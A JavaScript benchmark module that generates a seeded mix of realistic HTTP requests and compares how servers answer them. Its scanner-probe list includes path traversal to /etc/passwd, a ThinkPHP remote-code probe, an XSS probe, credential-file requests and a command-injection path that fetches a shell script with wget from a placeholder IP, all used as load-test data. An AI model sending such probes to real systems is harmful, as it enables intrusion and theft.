// The realistic request mix: what a public service sees in a day, as distinct requests: scanner
// probes (some %-encoded, as path-traversal and injection probes are), crawler paths, browser
// paths with the query strings campaigns and ad clicks give them (utm parameters, click ids, up to
// 600 characters), five kinds of Accept, each sent by the clients that send it (browsers with
// Accept-Language and, on some requests, session and analytics cookies; crawlers, scanners,
// API clients, uptime monitors), a Referer on a third, some HEAD and OPTIONS requests (uptime
// monitors, link checkers, CORS preflights, method discovery) and, with `home`, a share of `/`
// (the entry point: GET, HEAD and OPTIONS). Deterministic for a seed, so every server of a run and
// every run get the same list.

/** A small seeded generator (mulberry32): the same seed gives the same mix. */
function randomFor(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SCANNER_PATHS = [
  '/wp-login.php', '/.env', '/.git/config', '/wp-admin/setup-config.php', '/xmlrpc.php', '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/actuator/health',
  '/server-status', '/config.json', '/.aws/credentials', '/owa/auth/logon.aspx', '/boaform/admin/formLogin',
  '/HNAP1/', '/solr/admin/info/system', '/.DS_Store', '/backup.zip', '/admin/config.php', '/api/v1/pods',
  // %-encoded, as traversal and injection probes arrive: the access log's masking reads these.
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array',
  '/shell?cd+/tmp;wget+http%3A%2F%2F192.0.2.1%2Fx.sh', '/search.php?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
];
const CRAWLER_PATHS = ['/robots.txt', '/sitemap.xml', '/favicon.ico', '/apple-touch-icon.png', '/.well-known/security.txt', '/ads.txt', '/humans.txt'];
/** Paths a page's scripts call, the targets of CORS preflights. */
const API_PATHS = ['/api/cart', '/api/v2/session', '/graphql', '/api/events', '/api/search'];
const WORDS = ['summer', 'linen', 'coffee', 'garden', 'winter', 'boots', 'lamp', 'poster', 'madrid', 'barcelona', 'vinyl', 'desk'];

/** Five kinds of Accept, as clients send them (undefined: no header, as many bots and scanners). */
export const ACCEPTS = [
  undefined,
  '*/*',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'application/json',
  'application/json, text/plain, */*',
];

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/485.0.0.36.107;FBBV/663451632;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.6.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/665223453]',
];
/** Crawlers that ask for HTML as browsers do. */
const HTML_CRAWLERS = [
  'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
];
/** Crawlers, tools and monitors that send `*\/*`. */
const ANY_CLIENTS = [
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
  'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
  'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
  'Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
  'curl/8.5.0',
  'Wget/1.21.4',
  'python-requests/2.32.3',
  'node',
];
/** Scanners and bare clients that send no Accept at all. */
const NO_ACCEPT_CLIENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
  'Go-http-client/1.1',
  'Python-urllib/3.12',
];
/** API clients asking for JSON. */
const API_CLIENTS = ['python-requests/2.32.3', 'Go-http-client/1.1', 'okhttp/4.12.0', 'PostmanRuntime/7.42.0', 'Java/17.0.12', 'curl/8.5.0', 'node'];
/** Who sends axios' Accept: axios in node, and pages' scripts in browsers. */
const AXIOS_CLIENTS = ['axios/1.7.7', 'axios/1.7.7', BROWSERS[0], BROWSERS[3], BROWSERS[6], BROWSERS[8]];
/** Every user agent of the mix (26 distinct). */
export const USER_AGENTS = [...new Set([...BROWSERS, ...HTML_CRAWLERS, ...ANY_CLIENTS, ...NO_ACCEPT_CLIENTS, ...API_CLIENTS, ...AXIOS_CLIENTS])];
const BROWSER_SET = new Set(BROWSERS);

const LANGUAGES = [
  'en-US,en;q=0.9', 'es-ES,es;q=0.9,en;q=0.8', 'ca-ES,ca;q=0.9,es-ES;q=0.8,es;q=0.7,en-US;q=0.6,en;q=0.5',
  'de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7', 'fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7', 'pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7',
  'en-GB,en;q=0.9', 'ja,en-US;q=0.9,en;q=0.8', 'nl-NL,nl;q=0.9,en-US;q=0.8,en;q=0.7', 'it-IT,it;q=0.9',
];

/** `length` characters from `alphabet`, drawn from `random`. */
function token(random, length, alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_') {
  let s = '';
  for (let i = 0; i < length; i++) s += alphabet[Math.floor(random() * alphabet.length)];
  return s;
}
const digits = (random, length) => token(random, length, '0123456789');

/** The query of a campaign or ad click: utm parameters, click ids, Google's linker; about 60 to 600 characters. */
function campaignQuery(random, pick, i) {
  const parts = [`utm_source=${pick(['newsletter', 'google', 'facebook', 'instagram', 'bing', 'tiktok'])}`, `utm_medium=${pick(['email', 'cpc', 'social', 'paid_social', 'display'])}`, `utm_campaign=${pick(WORDS)}_${pick(WORDS)}_2026_${i}`];
  if (random() < 0.6) parts.push(`utm_content=${pick(['hero_banner', 'footer_link', 'carousel_slide_3', 'story_ad_v2'])}`, `utm_term=${pick(WORDS)}+${pick(WORDS)}`);
  const click = random();
  if (click < 0.35) parts.push(`gclid=Cj0KCQ${token(random, 86)}_BwE`);
  else if (click < 0.65) parts.push(`fbclid=IwZXh0bgNhZW0CMTEAAR${token(random, 40)}_aem_${token(random, 22)}`);
  else if (click < 0.8) parts.push(`mc_cid=${token(random, 10, '0123456789abcdef')}`, `mc_eid=${token(random, 10, '0123456789abcdef')}`);
  if (random() < 0.4) parts.push(`_gl=1*${token(random, 6, '0123456789abcdefghijklmnopqrstuvwxyz')}*_gcl_au*${token(random, 28)}*_ga*${token(random, 24)}*_ga_${token(random, 10, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}*${token(random, 60)}`);
  if (random() < 0.3) parts.push(`ref=${encodeURIComponent(`https://www.example.com/${pick(WORDS)}/${i}?from=${pick(WORDS)}`)}`, `_hsenc=p2ANqtz-${token(random, 88)}`, `_hsmi=${digits(random, 9)}`);
  return parts.join('&');
}

/** Cookies a returning browser sends: analytics, consent and, once signed in, a session; about 60 to 900 characters. */
function cookieHeader(random) {
  const now = 1_780_000_000 + Math.floor(random() * 1e7);
  const cookies = [`_ga=GA1.1.${digits(random, 10)}.${now - Math.floor(random() * 1e7)}`, `_ga_${token(random, 10, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}=GS1.1.${now}.${1 + Math.floor(random() * 40)}.1.${now + 300}.0.0.0`];
  if (random() < 0.6) cookies.push(`_gcl_au=1.1.${digits(random, 10)}.${now}`, `_fbp=fb.1.${now}123.${digits(random, 18)}`);
  if (random() < 0.5) cookies.push(`session=${token(random, 40 + Math.floor(random() * 160))}`);
  if (random() < 0.3) {
    cookies.push(`OptanonConsent=isGpcEnabled=0&datestamp=Sat+Nov+28+2026+10%3A${digits(random, 2)}%3A${digits(random, 2)}+GMT%2B0100&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=${token(random, 8, '0123456789abcdef')}-${token(random, 4, '0123456789abcdef')}-${token(random, 4, '0123456789abcdef')}-${token(random, 12, '0123456789abcdef')}&interactionCount=1&isAnonUser=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A1%2CC0004%3A0&AwaitingReconsent=false`);
  }
  return cookies.join('; ');
}

/** Whether `request` is for the entry point (`/`, any query): 200 for GET and HEAD, 204 for OPTIONS. */
export const isHome = (request) => request.path === '/' || request.path.startsWith('/?');

/** The status ours answers `request` with: the entry point's, else 404 (no other route is in the mix). */
export const expectedStatus = (request) => (isHome(request) ? (request.method === 'OPTIONS' ? 204 : 200) : 404);

/**
 * `count` distinct requests for `seed`: { method, path, headers }, the headers as the client sends
 * them. A path is distinct by an id, a page number or a query, as real traffic is. Request i has
 * Accept kind i mod 5 (ACCEPTS), whatever its method. `home`: a share of the requests (6 %) is
 * for `/`, the entry point (GET, HEAD from monitors, OPTIONS); without it every request is
 * unrouted (a 404), as bench:tls and bench:access-cost send it.
 */
export function requestMix(count = 4000, seed = 2026, { home = false } = {}) {
  const random = randomFor(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const requests = [];
  const seen = new Set();
  for (let i = 0; i < count; i++) {
    const acceptKind = i % ACCEPTS.length;
    const accept = ACCEPTS[acceptKind];
    const ua =
      acceptKind === 0 ? pick(NO_ACCEPT_CLIENTS)
      : acceptKind === 1 ? pick(ANY_CLIENTS)
      : acceptKind === 2 ? (random() < 0.8 ? pick(BROWSERS) : pick(HTML_CRAWLERS))
      : acceptKind === 3 ? pick(API_CLIENTS)
      : pick(AXIOS_CLIENTS);
    const browser = BROWSER_SET.has(ua);
    let method = 'GET';
    let path;
    const kind = random();
    if (home && kind < 0.06) {
      // The entry point: browsers landing from a campaign, monitors (HEAD), method discovery (OPTIONS).
      path = random() < 0.5 ? '/' : `/?${campaignQuery(random, pick, i)}`;
      const m = random();
      if (!browser && m < 0.25) method = 'HEAD';
      else if (!browser && m < 0.35) method = 'OPTIONS';
    } else {
      const k = home ? (kind - 0.06) / 0.94 : kind;
      if (k < 0.33) {
        const probe = pick(SCANNER_PATHS);
        path = `${probe}${random() < 0.5 ? '' : `${probe.includes('?') ? '&' : '?'}${pick(WORDS)}=${i}`}`;
        if (!browser && random() < 0.06) method = random() < 0.5 ? 'HEAD' : 'OPTIONS';
      } else if (k < 0.47) {
        path = `${pick(CRAWLER_PATHS)}${random() < 0.7 ? '' : `?v=${i}`}`;
        // Link checkers and crawlers asking whether a file is there.
        if (!browser && random() < 0.1) method = 'HEAD';
      } else if (k < 0.5) {
        // A page's script calling an API: the browser's CORS preflight.
        path = `${pick(API_PATHS)}?id=${i}`;
        method = browser ? 'OPTIONS' : 'GET';
      } else if (k < 0.68) path = `/products/${pick(WORDS)}-${pick(WORDS)}-${i}`;
      else if (k < 0.82) path = `/blog/2026/${1 + (i % 12)}/${pick(WORDS)}-${i}`;
      else path = `/search?q=${pick(WORDS)}+${pick(WORDS)}${random() < 0.3 ? `+${pick(WORDS)}+${pick(WORDS)}` : ''}&page=${i % 40}${random() < 0.4 ? `&sort=${pick(['price_asc', 'newest', 'relevance'])}&filter[colour]=${pick(WORDS)}&filter[size]=${pick(['s', 'm', 'l'])}` : ''}`;
      // Browsers arrive on product and blog pages from campaigns and ads: long queries.
      if (browser && method === 'GET' && /^\/(products|blog)\//.test(path) && random() < 0.35) path += `?${campaignQuery(random, pick, i)}`;
    }
    // Crawler paths repeat across the mix; the query or id keeps each request distinct.
    if (!isHome({ path }) && !path.includes('?') && !/\d/.test(path)) path += `?r=${i}`;
    if (seen.has(path)) path += `${path.includes('?') ? '&' : '?'}n=${i}`;
    seen.add(path);
    const headers = { 'user-agent': ua };
    if (accept) headers.accept = accept;
    if (method === 'OPTIONS' && browser) {
      headers.origin = 'https://www.example.com';
      headers['access-control-request-method'] = pick(['POST', 'PUT', 'GET']);
      headers['access-control-request-headers'] = pick(['content-type', 'authorization,content-type', 'content-type,x-requested-with']);
    }
    if (browser) {
      headers['accept-language'] = pick(LANGUAGES);
      headers['accept-encoding'] = ua.includes('Firefox') || ua.includes('Chrome') ? 'gzip, deflate, br, zstd' : 'gzip, deflate, br';
      if (random() < 0.4) headers.cookie = cookieHeader(random);
    } else if (ua.startsWith('python-requests') || ua.startsWith('Go-http') || ua.startsWith('okhttp') || ua.startsWith('axios')) {
      headers['accept-encoding'] = ua.startsWith('python') ? 'gzip, deflate' : 'gzip';
    }
    if (i % 3 === 0) headers.referer = `https://www.example.com/${pick(WORDS)}/${i}?utm_source=${pick(WORDS)}`;
    requests.push({ method, path, headers });
  }
  return requests;
}

/** The mix's figures for a benchmark's notes. */
export function mixComposition(requests) {
  const share = (test) => requests.filter(test).length;
  const queries = requests.map((r) => (r.path.includes('?') ? r.path.length - r.path.indexOf('?') - 1 : 0));
  return {
    count: requests.length,
    get: share((r) => r.method === 'GET'),
    head: share((r) => r.method === 'HEAD'),
    options: share((r) => r.method === 'OPTIONS'),
    home: share(isHome),
    encoded: share((r) => r.path.includes('%')),
    longQueries: queries.filter((q) => q >= 200).length,
    longestQuery: Math.max(...queries),
    cookies: share((r) => r.headers.cookie !== undefined),
    languages: share((r) => r.headers['accept-language'] !== undefined),
    referers: share((r) => r.headers.referer !== undefined),
    userAgents: new Set(requests.map((r) => r.headers['user-agent'])).size,
  };
}

/**
 * A wrk script that sends the mix in order, each wrk thread from its own offset, with each
 * request's method and headers. The requests are formatted in `init`, once wrk knows the Host it
 * adds to each. HEAD requests are left out: wrk 4.1 reads the body a HEAD answer's Content-Length
 * announces and waits for it until its timeout (its parser is not told the request was HEAD).
 * When wrk ends, the script prints `mix: <sent> sent, <unrouted> unrouted` (requests handed to
 * wrk, and those of them that are not for `/`), so a benchmark can tell how many of the answered
 * requests logged a 404 line.
 */
export function wrkScript(requests) {
  const quote = (s) => JSON.stringify(s);
  const rows = requests.filter((r) => r.method !== 'HEAD').map((r) => {
    const h = Object.entries(r.headers).map(([k, v]) => `[${quote(k)}]=${quote(v)}`).join(',');
    return `{${quote(r.method ?? 'GET')}, ${quote(r.path)}, {${h}}, ${isHome(r) ? 0 : 1}}`;
  });
  return [
    'local mix = {',
    rows.join(',\n'),
    '}',
    'local requests = {}',
    'local unrouted = {}',
    'local n = #mix',
    'local i = 0',
    'local threads = {}',
    'sent = 0',
    'notfound = 0',
    'function setup(thread) thread:set("offset", math.random(n)); table.insert(threads, thread) end',
    'function init(args)',
    '  i = tonumber(offset) or 0',
    '  for k, r in ipairs(mix) do requests[k] = wrk.format(r[1], r[2], r[3]); unrouted[k] = r[4] end',
    'end',
    'function request() i = i % n + 1; sent = sent + 1; notfound = notfound + unrouted[i]; return requests[i] end',
    'function done(summary, latency, reqs)',
    '  local s, u = 0, 0',
    '  for _, t in ipairs(threads) do s = s + t:get("sent"); u = u + t:get("notfound") end',
    '  io.write(string.format("mix: %d sent, %d unrouted\\n", s, u))',
    'end',
    '',
  ].join('\n');
}

/**
 * What ours answers besides the 404s' problem documents, for the peers to send the same bytes:
 * the prod 404 page, and the entry point as HTML and as JSON with ours' origin written `{origin}`
 * (each server puts its own, from the Host header). `url`: a running instance of ours.
 */
export async function probeOurs(url) {
  const origin = url.replace(/\/$/, '');
  const text = async (path, headers = {}) => {
    const res = await fetch(`${origin}${path}`, { headers });
    return res.text();
  };
  const [PAGE_404, HOME_HTML, HOME_JSON] = await Promise.all([text('/probe'), text('/', { accept: 'text/html' }), text('/', { accept: 'application/json' })]);
  return { PAGE_404, HOME_HTML: HOME_HTML.replaceAll(origin, '{origin}'), HOME_JSON: HOME_JSON.replaceAll(origin, '{origin}') };
}

/** The headers an answer is compared by: what a client or a cache acts on. */
const COMPARED_HEADERS = ['content-type', 'content-length', 'cache-control', 'vary', 'allow', 'x-robots-tag'];

/**
 * Each request of `requests` sent to `url` (keep-alive, 8 at a time) with its method and headers:
 * status, the compared headers, Expires (as seconds from the answer's arrival) and the body with
 * the server's own origin written `{origin}`.
 */
export async function answersOf(url, requests) {
  const { Agent, request } = await import('node:http');
  const origin = url.replace(/\/$/, '');
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  const answers = new Array(requests.length);
  let next = 0;
  const one = (i) => new Promise((resolve, reject) => {
    const { method, path, headers } = requests[i];
    const req = request(new URL(path, origin), { method, headers, agent }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => {
        const head = Object.fromEntries(COMPARED_HEADERS.map((h) => [h, res.headers[h]]));
        const expires = res.headers.expires === undefined ? undefined : Math.round((Date.parse(res.headers.expires) - Date.now()) / 1000);
        answers[i] = { status: res.statusCode, head, expires, body: Buffer.concat(chunks).toString('latin1').replaceAll(origin, '{origin}') };
        resolve();
      });
    });
    req.on('error', reject);
    req.end();
  });
  await Promise.all(Array.from({ length: 8 }, async () => {
    while (next < requests.length) await one(next++);
  }));
  agent.destroy();
  return answers;
}

/** Where `answers` differ from `reference` (answersOf both): one line for each request that differs. */
export function answerDifferences(requests, reference, answers) {
  const out = [];
  for (let i = 0; i < requests.length; i++) {
    const [a, b] = [reference[i], answers[i]];
    const diffs = [];
    if (a.status !== b.status) diffs.push(`status ${b.status}, ours ${a.status}`);
    for (const h of COMPARED_HEADERS) if (a.head[h] !== b.head[h]) diffs.push(`${h} ${JSON.stringify(b.head[h])}, ours ${JSON.stringify(a.head[h])}`);
    // Expires: a year from the answer, to within the seconds the two answers were apart.
    if ((a.expires === undefined) !== (b.expires === undefined) || Math.abs((a.expires ?? 0) - (b.expires ?? 0)) > 5) diffs.push(`expires in ${b.expires} s, ours in ${a.expires} s`);
    if (a.body !== b.body) diffs.push(`body ${JSON.stringify(b.body.slice(0, 160))}, ours ${JSON.stringify(a.body.slice(0, 160))}`);
    if (diffs.length > 0) out.push(`${requests[i].method} ${requests[i].path} (accept ${JSON.stringify(requests[i].headers.accept)}): ${diffs.join('; ')}`);
  }
  return out;
}
